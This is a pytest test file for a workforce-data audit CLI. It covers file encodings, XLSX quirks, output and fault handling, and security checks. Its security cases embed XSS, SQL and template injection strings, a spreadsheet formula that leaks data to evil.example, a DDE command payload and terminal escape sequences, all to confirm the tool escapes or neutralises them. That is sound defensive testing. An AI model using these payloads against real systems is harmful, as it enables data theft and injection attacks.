"""The reliability probe's audit cases (``../shared/reviews/reliability-probe-2026-12.md``,
tables "Audit: input files", "Audit: XLSX", "Audit: outputs and faults" and the audit rows of
"Security and privacy"), one parametrised case per probe entry.

Each case builds its input, runs ``pptaxonomy audit`` and asserts what the review expects:
the exit code, a one-line error (never a traceback) when it fails, the rows audited and
skipped when it runs, and that the input is unchanged. Entries that need a process signal,
a read-only or full file system, or two concurrent 1.5M-row audits are in
``test_audit_hostile.py`` and ``test_audit_write_errors.py`` (named in ``ELSEWHERE``).
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import os
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from click.testing import CliRunner

from pptaxonomy.cli import main

COLUMNS = ["Assignment Number", "Position Title", "Occupation Code", "Band", "Organisation"]
TITLES = ["Clinical Psychologist", "Counsellor", "Trainee PWP", "Staff Nurse", "CBT Therapist"]
T = "Position Title"


def rows(n: int = 200, start: int = 1) -> list[list[str]]:
    return [
        [f"A{i}", TITLES[i % len(TITLES)], "S1L", "7", f"SECRET-ORG-{i}"]
        for i in range(start, start + n)
    ]


def text(body: list[list[str]] | None = None, delim: str = ",", header=None) -> str:
    out = io.StringIO()
    w = csv.writer(out, delimiter=delim, lineterminator="\n")
    w.writerow(header or COLUMNS)
    w.writerows(rows() if body is None else body)
    return out.getvalue()


@dataclass
class Expect:
    """What a case should give: ``code``; ``audited``/``skipped`` when it runs; ``error`` (a
    substring of the one error line) when it fails; ``check`` for anything else."""

    code: int = 0
    audited: int | None = None
    skipped: int | None = None
    error: str | None = None
    encoding: str | None = None
    check: Callable[[Path, dict | None, str], None] | None = None
    slow: float = 30.0


@dataclass
class Case:
    make: Callable[[Path], list[str]]  # writes the input under the folder; the CLI arguments
    expect: Expect = field(default_factory=Expect)


def put(t: Path, name: str, data: str | bytes, encoding: str = "utf-8") -> str:
    path = t / name
    path.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
    return str(path)


def csv_case(data: str | bytes, *extra: str, name: str = "in.csv", encoding: str = "utf-8"):
    return lambda t: [put(t, name, data, encoding), "--title-column", T, *extra]


def _xlsx(t: Path, name: str = "in.xlsx", build=None) -> str:
    openpyxl = pytest.importorskip("openpyxl")
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Data"
    if build is None:
        ws.append(COLUMNS)
        for r in rows():
            ws.append(r)
    else:
        build(wb)
    path = t / name
    wb.save(path)
    return str(path)


def xlsx_case(build=None, *extra: str, name: str = "in.xlsx"):
    return lambda t: [_xlsx(t, name, build), "--title-column", T, *extra]


# -- the builders of the XLSX probes -----------------------------------------------------------


def _cover_first(wb) -> None:
    wb.active.title = "Cover"
    wb.active.append(["Workforce extract"])
    wb.active.append(["Prepared by the workforce team"])
    data = wb.create_sheet("Data")
    data.append(COLUMNS)
    for r in rows(20):
        data.append(r)


def _hidden_first(wb) -> None:
    wb.active.title = "Lookups"
    wb.active.append(["code", "meaning"])
    wb.active.sheet_state = "hidden"
    data = wb.create_sheet("Data")
    data.append(COLUMNS)
    for r in rows(20):
        data.append(r)


def _banner(wb, blank: bool = False) -> None:
    ws = wb.active
    ws.title = "Data"
    if blank:
        ws.append([])
    else:
        ws.append(["Staff in post, March"])
        ws.merge_cells("A1:E1")
    ws.append(COLUMNS)
    for r in rows(20):
        ws.append(r)


def _merged_header(wb) -> None:
    ws = wb.active
    ws.title = "Data"
    ws.append(["Assignment Number", "Position Title", None, "Band"])
    ws.merge_cells("B1:C1")
    for r in rows(20):
        ws.append(r[:4])


def _formulas(wb) -> None:
    ws = wb.active
    ws.title = "Data"
    ws.append(COLUMNS[:3])
    for i in range(20):
        ws.append([f"A{i}", '="Clinical "&"Psychologist"', "S1L"])


def _typed(wb) -> None:
    import datetime

    ws = wb.active
    ws.title = "Data"
    ws.append(["Key", T, "Occupation Code", "Start"])
    ws.append(["X1", "Clinical Psychologist", datetime.date(2024, 1, 5), True])
    ws.append(["X2", "PWP", 55, 1.0])
    ws.append(["X3", "Counsellor", "S1L", datetime.datetime(2024, 1, 5)])


def _check_typed(t: Path, summary: dict | None, out: str) -> None:
    with (t / "rows.csv").open(encoding="utf-8", newline="") as fh:
        got = {r["Key"]: r for r in csv.DictReader(fh)}
    assert got["X1"]["pp_status"] == "invalid-code"  # a date in the code column
    assert got["X2"]["Occupation Code"] == "55" and got["X1"]["Start"] == "True"


# -- checks shared by cases --------------------------------------------------------------------


def warned(fragment: str):
    def check(t: Path, summary: dict | None, out: str) -> None:
        assert summary is not None
        assert any(fragment in w for w in summary["warnings"]), summary["warnings"]

    return check


def problem_lines(*lines: int, code: str | None = None):
    def check(t: Path, summary: dict | None, out: str) -> None:
        assert summary is not None
        got = [p["line"] for p in summary["problems"]]
        assert got == list(lines), summary["problems"]
        if code:
            assert all(p["code"] == code for p in summary["problems"])

    return check


def statuses(**want: int):
    def check(t: Path, summary: dict | None, out: str) -> None:
        assert summary is not None
        for status, n in want.items():
            assert summary["statuses"][status.replace("_", "-")] == n, summary["statuses"]

    return check


def output_cells(column: str, predicate: Callable[[list[str]], bool], name: str = "rows.csv"):
    def check(t: Path, summary: dict | None, out: str) -> None:
        with (t / name).open(encoding="utf-8", newline="") as fh:
            values = [r[column] for r in csv.DictReader(fh)]
        assert predicate(values), values[:5]

    return check


def all_of(*checks):
    def check(t: Path, summary: dict | None, out: str) -> None:
        for c in checks:
            c(t, summary, out)

    return check


def _rows_csv(t: Path) -> list[str]:
    return ["-o", str(t / "rows.csv")]


def with_output(make):
    return lambda t: [*make(t), *_rows_csv(t)]


def _utf8_then(bad_at: int) -> bytes:
    body = text().encode()
    cut = body.index(b"\n", bad_at) + 1
    return body[:cut] + "A999,Caf\xe9 Counsellor,S1L,7,Org\n".encode("cp1252") + body[cut:]


def _unterminated_late(t: Path) -> list[str]:
    body = (
        text(rows(3000))
        + 'A9,"Open quote,S1L,7,Org\n'
        + text(rows(10, 5000))[len(",".join(COLUMNS)) + 1 :]
    )
    return [put(t, "in.csv", body), "--title-column", T]


def _hardlink(t: Path) -> list[str]:
    src = put(t, "in.csv", text())
    os.link(src, t / "link.csv")
    return [src, "--title-column", T, "-o", str(t / "link.csv")]


def _symlinked_output(t: Path) -> list[str]:
    src = put(t, "in.csv", text())
    (t / "out.csv").symlink_to(src)
    return [src, "--title-column", T, "-o", str(t / "out.csv")]


def _symlinked_input(t: Path) -> list[str]:
    src = put(t, "real.csv", text())
    (t / "in.csv").symlink_to(src)
    return [str(t / "in.csv"), "--title-column", T]


def _reaudit(t: Path) -> list[str]:
    first = put(t, "first.csv", text())
    result = CliRunner().invoke(
        main, ["audit", first, "--title-column", T, "-o", str(t / "in.csv")]
    )
    assert result.exit_code == 0
    return [str(t / "in.csv"), "--title-column", T, *_rows_csv(t)]


def _no_pp_duplicates(t: Path, summary: dict | None, out: str) -> None:
    with (t / "rows.csv").open(encoding="utf-8", newline="") as fh:
        header = next(csv.reader(fh))
    assert len(header) == len(set(header)) and header.count("pp_status") == 1


def _real_parquet(t: Path) -> list[str]:
    import duckdb

    put(t, "src.csv", text())
    path = t / "in.parquet"
    duckdb.sql(f"COPY (SELECT * FROM read_csv('{t / 'src.csv'}', all_varchar=true)) TO '{path}'")
    (t / "src.csv").unlink()
    return [str(path), "--title-column", T]


def _zip_of_csv(t: Path, name: str) -> list[str]:
    path = t / name
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("in.csv", text())
    return [str(path), "--title-column", T]


def _html_escaped(t: Path, summary: dict | None, out: str) -> None:
    html = (t / "r.html").read_text(encoding="utf-8")
    for raw in ("<script>", "<img src=x", "<svg onload", "</table><h1>"):
        assert raw not in html
    assert html.count("<h1") == 1


HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "</td></tr></table><h1>x",
    "<svg onload=alert(3)>",
    "{{7*7}}",
    "'; DROP TABLE p1; --",
]


def _hostile_titles(t: Path) -> list[str]:
    body = [[f"K{i}", h, "S1L", "7", "Org"] for i, h in enumerate(HOSTILE * 5)]
    return [put(t, "in.csv", text(body)), "--title-column", T, "--report", str(t / "r.html")]


def _hostile_names(t: Path) -> list[str]:
    header = ["<i>KEY</i>", "<script>x</script>", "=CODE()", "Band", "Org"]
    name = "<img src=x onerror=alert(9)>.csv"
    return [
        put(t, name, text(header=header)),
        "--title-column",
        "<script>x</script>",
        "--code-column",
        "=CODE()",
        "--key-column",
        "<i>KEY</i>",
        "--report",
        str(t / "r.html"),
    ]


def _no_other_columns(t: Path, summary: dict | None, out: str) -> None:
    for name in ("r.json", "r.html"):
        assert "SECRET-ORG" not in (t / name).read_text(encoding="utf-8")


def _no_escape_on_terminal(t: Path, summary: dict | None, out: str) -> None:
    assert "\x1b" not in out and "\x9b" not in out


def _formula_cells(t: Path) -> list[str]:
    body = [
        [
            '=HYPERLINK("http://evil.example/?leak="&A1)',
            "Counsellor",
            "=S1L",
            "7",
            "+cmd|' /C calc'!A0",
        ],
        ["@SUM(1)", "Clinical Psychologist", "-1+1", "7", "\t=1+1"],
    ]
    return [
        put(t, "in.csv", text(body)),
        "--title-column",
        T,
        "--code-column",
        "Occupation Code",
        *_rows_csv(t),
    ]


def _pp_cells_safe(t: Path, summary: dict | None, out: str) -> None:
    with (t / "rows.csv").open(encoding="utf-8", newline="") as fh:
        for r in csv.DictReader(fh):
            assert r["Assignment Number"][:1] in "=@"  # input cells unchanged (documented)
            for k, v in r.items():
                if k.startswith("pp_"):
                    assert v[:1] not in ("=", "+", "-", "@", "\t"), (k, v)


def _keep_order(t: Path) -> list[str]:
    body = [[f"K{i:05d}", TITLES[i % 5] + f" {i % 97}", "S1L", "7", "Org"] for i in range(3000)]
    return [put(t, "in.csv", text(body)), "--title-column", T, "--keep-order", *_rows_csv(t)]


def _in_order(t: Path, summary: dict | None, out: str) -> None:
    output_cells("Assignment Number", lambda v: v == sorted(v) and len(v) == 3000)(t, summary, out)


def _long_title_fast(t: Path, summary: dict | None, out: str) -> None:
    assert summary is not None and summary["rows"]["audited"] == 200


def _blank_lines_one_column(t: Path) -> list[str]:
    body = "Position Title\nClinical Psychologist\n\nCounsellor\n\n\nPWP\n"
    return [put(t, "in.csv", body), "--title-column", T]


def _tmp_full(t: Path) -> list[str]:
    """``--temp-dir`` on a folder that fails writes (a file in place of the folder's copy)."""
    src = put(t, "in.csv", text(), encoding="cp1252")
    (t / "notadir").write_text("x")
    return [src, "--title-column", T, "--temp-dir", str(t / "notadir")]


def _cp1252(data: str) -> bytes:
    return data.replace("Counsellor", "Caf\xe9 Counsellor").encode("cp1252")


def _many_columns() -> str:
    header = [T] + [f"c{i}" for i in range(2999)]
    body = [["Clinical Psychologist"] + [str(i) for i in range(2999)] for _ in range(20)]
    return text(body, header=header)


def _garbage_titles() -> str:
    import random

    rnd = random.Random(7)
    body = [
        [
            f"K{i}",
            "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz ") for _ in range(18)),
            "S1L",
            "7",
            "O",
        ]
        for i in range(5000)
    ]
    return text(body)


def _unicode_titles() -> str:
    titles = [
        "Seicolegydd Clinigol",
        "\u0623\u062e\u0635\u0627\u0626\u064a \u0646\u0641\u0633\u064a",
        "\u4e34\u5e8a\u5fc3\u7406\u5b66\u5bb6",
        "\u041a\u043b\u0438\u043d\u0438\u0447\u0435\u0441\u043a\u0438\u0439 "
        "\u043f\u0441\u0438\u0445\u043e\u043b\u043e\u0433",
        "Clinical Psychologist \U0001f9e0",
        "\u202eClinical Psychologist",
        "Clinical\u200bPsychologist",
        "\uff23\uff4c\uff49\uff4e\uff49\uff43\uff41\uff4c Psychologist",
        "\x1b[31mClinical Psychologist\x1b[0m",
    ]
    return text([[f"K{i}", s, "S1L", "7", "O"] for i, s in enumerate(titles)])


# -- the cases -----------------------------------------------------------------------------------

HEADER_LINE = ",".join(COLUMNS) + "\n"

CASES: dict[str, Case] = {
    # ---- Audit: input files
    "empty file": Case(csv_case(b""), Expect(2, error="the file is empty")),
    "whitespace-only file": Case(csv_case(" \n\n  \n"), Expect(2, error="the file is empty")),
    "header only, newline": Case(csv_case(HEADER_LINE), Expect(0, 0, 0)),
    "header only, no newline": Case(csv_case(HEADER_LINE.rstrip("\n")), Expect(0, 0, 0)),
    "no header row": Case(
        csv_case(text()[len(HEADER_LINE) :]),
        Expect(2, error="the first row looks like data", check=lambda t, s, o: _short_error(o)),
    ),
    "missing column": Case(
        lambda t: [put(t, "in.csv", text()), "--title-column", "Job"],
        Expect(2, error="columns found"),
    ),
    "near-miss column name": Case(
        lambda t: [put(t, "in.csv", text()), "--title-column", "Positon Title"],
        Expect(2, error="columns found"),
    ),
    "missing code column": Case(
        csv_case(text(), "--code-column", "Code"), Expect(2, error="no code column")
    ),
    "column name folded (case and spaces)": Case(
        lambda t: [put(t, "in.csv", text()), "--title-column", "  position TITLE "],
        Expect(0, 200, 0),
    ),
    "duplicate column names (exact)": Case(
        csv_case(
            text(header=["Assignment Number", T, T, "Band", "Organisation"]), *_rows_csv(Path())
        ),
        Expect(0, 200, 0, check=warned("given twice")),
    ),
    "duplicate names differing in case": Case(
        lambda t: [
            put(
                t,
                "in.csv",
                text(
                    [["A1", "Staff Nurse", "Clinical Psychologist", "S1L", "O"]] * 5,
                    header=["Assignment Number", "position title", T, "Occupation Code", "O"],
                ),
            ),
            "--title-column",
            T,
            "--code-column",
            "Occupation Code",
        ],
        Expect(0, 5, 0, check=all_of(statuses(consistent=5), warned("given twice"))),
    ),
    "blank header cells": Case(
        csv_case(text(header=["", T, "", "Band", "Organisation"])), Expect(0, 200, 0)
    ),
    "weird header names": Case(
        lambda t: [
            put(t, "in.csv", text(header=['It\'s "Title"', "t", "raw", "cls", "st"])),
            "--title-column",
            "t",
            "--code-column",
            "raw",
            "--key-column",
            'It\'s "Title"',
        ],
        Expect(0, 200, 0, check=statuses(consistent=40)),
    ),
    "re-audit of an earlier rows.csv": Case(_reaudit, Expect(0, 200, 0, check=_no_pp_duplicates)),
    "cp1252 (auto)": Case(csv_case(_cp1252(text())), Expect(0, 200, 0, encoding="cp1252")),
    "latin-1 (--encoding latin-1)": Case(
        csv_case(_cp1252(text()), "--encoding", "latin-1"), Expect(0, 200, 0, encoding="iso8859-1")
    ),
    "UTF-16 LE with a BOM": Case(
        csv_case(b"\xff\xfe" + text().encode("utf-16-le")), Expect(0, 200, 0, encoding="utf-16")
    ),
    "UTF-16 BE with a BOM": Case(
        csv_case(b"\xfe\xff" + text().encode("utf-16-be")), Expect(0, 200, 0, encoding="utf-16")
    ),
    "UTF-8 with a BOM": Case(
        csv_case(b"\xef\xbb\xbf" + text().encode()), Expect(0, 200, 0, encoding="utf-8-sig")
    ),
    "BOM and ';'": Case(
        csv_case(b"\xef\xbb\xbf" + text(delim=";").encode()),
        Expect(0, 200, 0, encoding="utf-8-sig"),
    ),
    "UTF-16 LE without a BOM": Case(
        csv_case(text().encode("utf-16-le")), Expect(0, 200, 0, encoding="utf-16-le")
    ),
    "UTF-16 BE without a BOM": Case(
        csv_case(text().encode("utf-16-be")), Expect(0, 200, 0, encoding="utf-16-be")
    ),
    "UTF-32 with a BOM (auto)": Case(
        csv_case(text().encode("utf-32")), Expect(0, 200, 0, encoding="utf-32")
    ),
    "UTF-32 with a BOM, --encoding utf-32": Case(
        csv_case(text().encode("utf-32"), "--encoding", "utf-32"), Expect(0, 200, 0)
    ),
    "UTF-32 LE, --encoding utf-32-le": Case(
        csv_case(text().encode("utf-32-le"), "--encoding", "utf-32-le"), Expect(0, 200, 0)
    ),
    "UTF-32 LE without a BOM (auto)": Case(
        csv_case(text().encode("utf-32-le")), Expect(0, 200, 0, encoding="utf-32-le")
    ),
    "bad bytes early": Case(csv_case(_utf8_then(100)), Expect(0, 201, 0, encoding="cp1252")),
    "';' delimiter": Case(csv_case(text(delim=";")), Expect(0, 200, 0)),
    "tab delimiter": Case(csv_case(text(delim="\t")), Expect(0, 200, 0)),
    "'|' delimiter": Case(csv_case(text(delim="|")), Expect(0, 200, 0)),
    "';' with decimal commas": Case(
        csv_case(text([[f"A{i}", "Counsellor", "S1L", "0,8", "1,0"] for i in range(200)], ";")),
        Expect(0, 200, 0),
    ),
    "CR-only line endings": Case(csv_case(text().replace("\n", "\r")), Expect(0, 200, 0)),
    "quoted fields with embedded LF and CRLF": Case(
        csv_case(
            text(
                [
                    [f"A{i}", "Counsellor", "S1L", "7", "Org\nline two" if i % 2 else "Org\r\nx"]
                    for i in range(200)
                ]
            ),
            *_rows_csv(Path()),
        ),
        Expect(0, 200, 0),
    ),
    "ragged rows (3, 10, 1 and 0 fields)": Case(
        csv_case(
            HEADER_LINE
            + "".join(
                {
                    3: "A3,Counsellor,S1L\n",
                    7: ",".join("x" * 10) + "\n",
                    20: "lonely\n",
                    25: "\n",
                }.get(i, f"A{i},Counsellor,S1L,7,Org\n")
                for i in range(30)
            )
        ),
        Expect(
            0, 26, 3, check=problem_lines(5, 9, 22, code="ragged-row")
        ),  # the blank line ignored,
    ),
    "header with a trailing extra delimiter": Case(
        csv_case(
            HEADER_LINE.rstrip("\n") + ",\n" + text()[len(HEADER_LINE) :],
            "--fail-on",
            "code-mismatch",
        ),
        Expect(2, error="every row was skipped"),
    ),
    "rows with a trailing extra delimiter": Case(
        csv_case(HEADER_LINE + "".join(f"A{i},Counsellor,S1L,7,Org,\n" for i in range(200))),
        Expect(0, 200, 0),
    ),
    "unbalanced quote near the top": Case(
        csv_case(
            HEADER_LINE + 'A0,"Counsellor,S1L,7,Org\nA1,x,S1L,7,Org"\n' + text()[len(HEADER_LINE) :]
        ),
        Expect(0, 200, None, check=lambda t, s, o: _first_problem_line(s, 2)),
    ),
    "unterminated quote late": Case(
        _unterminated_late,
        Expect(0, 3000, 11, check=problem_lines(3002, code="unterminated-quote")),
    ),
    '"Counsellor "CfD"" near the top': Case(
        csv_case(HEADER_LINE + 'A0,"Counsellor "CfD"",S1L,7,Org\n' + text()[len(HEADER_LINE) :]),
        Expect(0, 200, 1, check=problem_lines(2)),
    ),
    '"Counsellor "CfD"" late': Case(
        csv_case(
            text() + 'A0,"Counsellor "CfD"",S1L,7,Org\n' + text(rows(5, 900))[len(HEADER_LINE) :]
        ),
        Expect(0, 205, 1, check=problem_lines(202)),
    ),
    "stray mid-field quote; backslash quote": Case(
        csv_case(
            HEADER_LINE + 'A1,Counsellor "CfD",S1L,7,Org\nA2,Say \\"hi\\",S1L,7,Org\n',
            *_rows_csv(Path()),
        ),
        Expect(0, 2, 0),
    ),
    "1 MB cell in a non-title column": Case(
        csv_case(text(rows(199)) + "A0,Counsellor,S1L,7," + "y" * 1_048_576 + "\n"),
        Expect(0, 200, 0),
    ),
    "1 MB title cell": Case(
        csv_case(text(rows(199)) + "A0,Clinical Psychologist " + "x" * 1_048_576 + ",S1L,7,Org\n"),
        Expect(0, 200, 0, check=_long_title_fast, slow=10.0),
    ),
    "3 MB cell": Case(
        csv_case(
            text(rows(4))
            + "A5,"
            + "x" * 3_000_000
            + ",S1L,7,Org\n"
            + text(rows(3, 10))[len(HEADER_LINE) :]
        ),
        Expect(0, 7, 1, check=problem_lines(6, code="line-too-long")),
    ),
    "200 KB first row": Case(
        csv_case(text([["A0", "Counsellor", "S1L", "7", "z" * 200_000], *rows()])),
        Expect(0, 201, 0),
    ),
    "NUL bytes in cells": Case(
        csv_case(text([[f"A{i}", "Counsellor\0", "S1L", "7", "O\0rg"] for i in range(200)])),
        Expect(0, 200, 0),
    ),
    "NUL byte in the header": Case(
        lambda t: [
            put(t, "in.csv", text(header=["A", "Position\0Title", "C", "B", "O"])),
            "--title-column",
            T,
        ],
        Expect(2, error="'Position\\x00Title'"),
    ),
    "Welsh, Arabic, Chinese, Cyrillic, emoji, RLO, ZWSP, full-width, ANSI titles": Case(
        lambda t: [put(t, "in.csv", _unicode_titles()), "--title-column", T],
        Expect(0, 9, 0, check=_no_escape_on_terminal),
    ),
    "3,000 columns": Case(csv_case(_many_columns()), Expect(0, 20, 0)),
    "5,000 distinct garbage titles": Case(
        csv_case(_garbage_titles()), Expect(0, 5000, 0, slow=60.0)
    ),
    "symlinked input": Case(_symlinked_input, Expect(0, 200, 0)),
    "one-column CSV with blank lines": Case(_blank_lines_one_column, Expect(0, 3, 0)),
    ".xls (OLE2)": Case(
        csv_case(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, name="in.xls"),
        Expect(2, error="OLE2"),
    ),
    ".csv.gz": Case(
        csv_case(gzip.compress(text().encode()), name="in.csv.gz"), Expect(2, error="gzip")
    ),
    ".parquet (real)": Case(_real_parquet, Expect(0, 200, 0)),
    ".parquet (truncated)": Case(
        csv_case(b"PAR1" + b"\0" * 100, name="in.parquet"),
        Expect(2, error="not a readable Parquet file"),
    ),
    "zip named .csv.zip holding a CSV": Case(
        lambda t: _zip_of_csv(t, "in.csv.zip"), Expect(2, error="not a readable XLSX workbook")
    ),
    "zip named .csv holding a CSV": Case(
        lambda t: _zip_of_csv(t, "in.csv"), Expect(2, error="not a readable XLSX workbook")
    ),
    "CSV named .xlsx": Case(
        csv_case(text(), name="in.xlsx"), Expect(2, error="not a readable XLSX")
    ),
    "truncated xlsx": Case(
        lambda t: [
            put(t, "in.xlsx", Path(_xlsx(t, "full.xlsx")).read_bytes()[:3000]),
            "--title-column",
            T,
        ],
        Expect(2, error="not a readable XLSX workbook"),
    ),
    "a directory": Case(lambda t: [str(t), "--title-column", T], Expect(2, error="not a file")),
    "a missing path": Case(
        lambda t: [str(t / "nope.csv"), "--title-column", T], Expect(2, error="no such file")
    ),
    "'-'": Case(lambda t: ["-", "--title-column", T], Expect(2, error="-: no such file")),
    "/dev/null": Case(lambda t: ["/dev/null", "--title-column", T], Expect(2, error="not a file")),
    # ---- Audit: XLSX
    "data on sheet 2, a cover sheet first": Case(
        xlsx_case(_cover_first), Expect(2, error="sheets found: Cover, Data; use --sheet")
    ),
    "--sheet Data": Case(xlsx_case(_cover_first, "--sheet", "Data"), Expect(0, 20, 0)),
    "--sheet Nope": Case(
        xlsx_case(_cover_first, "--sheet", "Nope"), Expect(2, error="sheets found: Cover, Data")
    ),
    "hidden first sheet": Case(
        xlsx_case(_hidden_first), Expect(0, 20, 0, check=warned("hidden sheet"))
    ),
    "merged banner row above the header": Case(
        xlsx_case(_banner), Expect(0, 20, 0, check=warned("looks like a title"))
    ),
    "blank first row": Case(xlsx_case(lambda wb: _banner(wb, blank=True)), Expect(0, 20, 0)),
    "merged header cells": Case(xlsx_case(_merged_header), Expect(0, 20, 0)),
    "formulas without cached values": Case(
        xlsx_case(_formulas), Expect(0, 20, 0, check=warned("20 formula cell(s)"))
    ),
    "dates in the code column; True; 55 as a number": Case(
        lambda t: [
            _xlsx(t, build=_typed),
            "--title-column",
            T,
            "--code-column",
            "Occupation Code",
            *_rows_csv(t),
        ],
        Expect(0, 3, 0, check=_check_typed),
    ),
    ".xlsm": Case(xlsx_case(None, name="in.xlsm"), Expect(0, 200, 0)),
    "--sheet given with a CSV": Case(csv_case(text(), "--sheet", "Data"), Expect(0, 200, 0)),
    # ---- Audit: outputs and faults
    "--output is the input": Case(
        lambda t: [put(t, "in.csv", text()), "--title-column", T, "-o", str(t / "in.csv")],
        Expect(2, error="input"),
    ),
    "--output is a symlink to the input": Case(_symlinked_output, Expect(2, error="input")),
    "--output is a hardlink to the input": Case(_hardlink, Expect(2, error="input")),
    "--report is the input (extract.json)": Case(
        lambda t: [
            put(t, "extract.json", text()),
            "--title-column",
            T,
            "--report",
            str(t / "extract.json"),
        ],
        Expect(2, error="this is the input file"),
    ),
    "--output X.html --report X.html": Case(
        csv_case(text(), "-o", "SAME", "--report", "SAME"), Expect(2, error="--output")
    ),
    "the same report twice": Case(
        csv_case(text(), "--report", "R", "--report", "R"),
        Expect(2, error="the same file as --report"),
    ),
    "output folder missing": Case(
        csv_case(text(), "-o", "/nonexistent-folder/rows.csv"), Expect(2, error="does not exist")
    ),
    "report folder missing": Case(
        csv_case(text(), "-o", "ROWS", "--report", "/nonexistent-folder/r.html"),
        Expect(2, error="nonexistent-folder", check=lambda t, s, o: _nothing_written(t)),
    ),
    "--output is an existing folder": Case(
        csv_case(text(), "-o", "DIR"), Expect(2, error="is a directory")
    ),
    "--report is an existing folder": Case(csv_case(text(), "--report", "DIR"), Expect(2)),
    "bad report suffix": Case(
        csv_case(text(), "--report", "r.pdf"), Expect(2, error=".json or .html")
    ),
    "bad --fail-on": Case(csv_case(text(), "--fail-on", "nope"), Expect(2)),
    "--fail-on matched": Case(
        csv_case(
            text(),
            "--code-column",
            "Occupation Code",
            "--fail-on",
            "code-mismatch,psych-code-unrecognised-title,not-psychological",
        ),
        Expect(1, 200, 0),
    ),
    "--temp-dir not usable (cp1252 input)": Case(_tmp_full, Expect(2, error="--temp-dir")),
    "--encoding klingon": Case(
        csv_case(text(), "--encoding", "klingon"), Expect(2, error="unknown encoding")
    ),
    "--encoding mbcs": Case(csv_case(text(), "--encoding", "mbcs"), Expect(2, error="mbcs")),
    **{
        f"--encoding {enc}": Case(csv_case(text(), "--encoding", enc), Expect(2, error=enc))
        for enc in ("utf-32", "idna", "undefined", "rot13", "base64", "hex", "zlib")
    },
    "--encoding utf-8 on a cp1252 file": Case(
        csv_case(_cp1252(text()), "--encoding", "utf-8"), Expect(0, 160, 40, encoding="utf-8")
    ),
    "--keep-order": Case(_keep_order, Expect(0, 3000, 0, check=_in_order)),
    # ---- Security and privacy (audit rows)
    "hostile titles in the HTML report": Case(
        _hostile_titles, Expect(0, 30, 0, check=_html_escaped)
    ),
    "hostile column and file names": Case(_hostile_names, Expect(0, 200, 0, check=_html_escaped)),
    "other columns absent from the reports": Case(
        csv_case(text(), "--report", "r.json", "--report", "r.html"),
        Expect(0, 200, 0, check=_no_other_columns),
    ),
    "formula prefixes in the row CSV": Case(_formula_cells, Expect(0, 2, 0, check=_pp_cells_safe)),
    "ANSI sequences in codes and titles on the terminal": Case(
        lambda t: [
            put(t, "in.csv", text([["K1", "\x1b]8;;http://x\x07Counsellor", "\x1b[2J", "7", "O"]])),
            "--title-column",
            T,
            "--code-column",
            "Occupation Code",
        ],
        Expect(0, 1, 0, check=_no_escape_on_terminal),
    ),
}

_BIG = text(rows(2000))
CASES["bad bytes after 64 KB"] = Case(
    csv_case(_BIG.encode() + "A9999,Caf\xe9 Counsellor,S1L,7,Org\n".encode("cp1252")),
    Expect(0, 2001, 0, encoding="cp1252"),
)

#: Probe entries run elsewhere (a signal, a full or read-only file system, concurrency).
ELSEWHERE = {
    "read-only output folder": "test_audit_hostile.py::"
    "test_read_only_output_folder_is_refused_before_the_audit",
    "disk full for rows.csv / the reports": "test_audit_write_errors.py",
    "kill -9 / SIGTERM / SIGINT during an audit": "test_audit_hostile.py::"
    "test_a_signal_during_a_real_audit_exits_cleanly_and_leaves_nothing",
    "Ctrl-C in the write pass": "test_audit_hostile.py::"
    "test_ctrl_c_in_any_phase_exits_130_with_one_line_and_no_leftovers",
}


def _short_error(out: str) -> None:
    assert len(out.strip()) < 400
    assert "SECRET-ORG-1" not in out and "Counsellor" not in out  # no staff data shown


def _first_problem_line(summary: dict | None, line: int) -> None:
    assert summary is not None and summary["problems"][0]["line"] == line
    assert summary["rows"]["audited"] + summary["rows"]["skipped"] >= 200


def _nothing_written(t: Path) -> None:
    assert not (t / "rows.csv").exists()


def _resolve(args: list[str], t: Path) -> list[str]:
    """Stand-in names in a case's arguments: SAME, R, ROWS, DIR, and bare report names."""
    (t / "dir").mkdir(exist_ok=True)
    names = {"SAME": t / "same.html", "R": t / "r.json", "ROWS": t / "rows.csv", "DIR": t / "dir"}
    out = []
    for i, a in enumerate(args):
        if a in names:
            a = str(names[a])
        elif args[i - 1 : i] in (["--report"], ["-o"]) and "/" not in a:
            a = str(t / a)
        out.append(a)
    return out


def _digests(t: Path) -> dict[str, str]:
    return {
        p.name: hashlib.sha256(p.read_bytes()).hexdigest()
        for p in t.iterdir()
        if p.is_file() and not p.is_symlink() and p.name.startswith(("in", "real", "extract"))
    }


@pytest.mark.parametrize("name", sorted(CASES))
def test_probe_audit_case(tmp_path: Path, name: str) -> None:
    case = CASES[name]
    want = case.expect
    args = _resolve(case.make(tmp_path), tmp_path)
    before = _digests(tmp_path)
    json_out = want.code in (0, 1) and want.error is None
    started = time.monotonic()
    result = CliRunner().invoke(main, ["audit", *args, *(["--json"] if json_out else [])])
    elapsed = time.monotonic() - started
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    assert "Traceback" not in result.output
    assert result.exit_code == want.code, (result.stdout[-500:], result.stderr[-500:])
    assert elapsed < want.slow, f"{elapsed:.1f} s"
    assert _digests(tmp_path) == before  # the input is never modified
    summary = None
    if want.error is not None or want.code == 2:
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("error: "), lines
        if want.error:
            assert want.error in lines[0], lines[0]
    else:
        summary = json.loads(result.stdout)
        rows_seen = summary["rows"]
        if want.audited is not None:
            assert rows_seen["audited"] == want.audited, rows_seen
        if want.skipped is not None:
            assert rows_seen["skipped"] == want.skipped, rows_seen
        if want.encoding is not None:
            assert summary["input"]["encoding"] == want.encoding
    if want.check is not None:
        want.check(tmp_path, summary, result.output)
    left = [p.name for p in tmp_path.iterdir() if p.name.startswith((".", "tmp_"))]
    assert left == [], left  # no temporary file left beside the outputs
